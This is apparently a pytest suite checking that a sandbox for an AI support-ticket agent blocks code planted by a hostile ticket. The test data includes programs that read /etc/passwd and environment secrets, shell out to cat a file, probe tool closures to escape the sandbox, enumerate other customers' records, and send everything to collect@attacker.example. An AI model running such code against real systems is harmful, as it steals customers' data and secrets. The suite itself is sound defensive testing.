"""Whatever a ticket makes the model write, it gets nothing that the ticket's sender may not have."""

from __future__ import annotations

import pytest

from codeact import Sandbox
from examples.support_ticket.canary import VARIABLE, Canary
from examples.support_ticket.data import Company
from examples.support_ticket.desk import LIMITS
from examples.support_ticket.knowledge import KnowledgeBase
from examples.support_ticket.tools import support_tools

OWN = "cus_0002"

GREEDY = """
loot = []

def attempt(take):
    try:
        loot.append(take())
    except BaseException as error:
        loot.append(f"{type(error).__name__}: {error}")

attempt(lambda: open("/etc/passwd").read())
attempt(lambda: open("$file").read())
attempt(lambda: tools.send_reply("collect@attacker.example", "all of it"))
attempt(lambda: tools["send_reply"]("collect@attacker.example", "all of it"))
attempt(lambda: tools.list_all_customers())
attempt(lambda: [tools.get_customer(f"cus_{n:04}") for n in range(3, 50)])
attempt(lambda: [tools.get_charges(f"cus_{n:04}") for n in range(3, 50)])
loot
"""

PROGRAMS = {
    "environment": f"import os\nstr(dict(os.environ)) + str(os.getenv('{VARIABLE}'))",
    "environment of the process": 'open("/proc/self/environ").read()',
    "file": 'from pathlib import Path\nPath("$file").read_text()',
    "folder": 'import os\nos.listdir("/tmp")',
    "shell": 'import subprocess\nsubprocess.run(["cat", "$file"], capture_output=True).stdout',
    "host module": "from examples.support_ticket import data\nstr(data.generate().truth)",
    "everything at once": GREEDY,
    "tool's function": "tools.get_charges.function.__globals__",
    "tool's closure": "tools.get_charges.__closure__",
}


@pytest.fixture
def sandbox(company: Company, knowledge: KnowledgeBase, engine: str) -> Sandbox:
    return Sandbox(support_tools(company.book.only([OWN]), knowledge), engine=engine, limits=LIMITS)


@pytest.mark.parametrize("name", PROGRAMS)
def test_nothing_comes_out(sandbox: Sandbox, canary: Canary, company: Company, name: str) -> None:
    result = sandbox.run(PROGRAMS[name].replace("$file", str(canary.file)))
    text = f"{result.to_dict()} {result.observation()}"
    assert canary.leaks(text) == []
    others = [customer.email for customer in company.book.customers.values() if customer.id != OWN]
    assert [address for address in others if address in text] == []
    planted = [id_ for customer, ids in company.truth.items() if customer != OWN for id_ in ids]
    assert [id_ for id_ in planted if id_ in text] == []


def test_the_tools_are_these_five_and_none_sends(sandbox: Sandbox) -> None:
    result = sandbox.run("sorted(tools)")
    assert result.value == ["find_customer", "get_charges", "get_customer", "get_refunds", "search_knowledge_base"]


def test_a_leak_would_be_seen(canary: Canary) -> None:
    text = f"… {canary.token} … {canary.file.read_text(encoding='utf-8')} … root:x:0:0 …"
    assert canary.leaks(text) == [f"${VARIABLE}", str(canary.file), "/etc/passwd"]
    assert canary.leaks("nothing to see") == []
